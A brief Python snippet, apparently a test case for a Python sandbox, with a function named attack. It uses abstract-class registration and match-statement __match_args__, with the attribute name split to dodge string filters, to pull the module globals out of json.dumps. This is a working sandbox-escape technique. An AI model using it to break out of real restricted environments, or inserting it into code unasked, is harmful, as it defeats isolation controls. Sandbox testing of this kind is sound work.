# gained: namespace
from abc import ABC
from typing import Any
import json


class Odd(ABC):
    pass


def attack(path: str) -> Any:
    Odd.register(type(json.dumps))
    setattr(Odd, "__match_args__", ("__glo" + "bals__",))
    match json.dumps:
        case Odd(found):
            return found
    return None
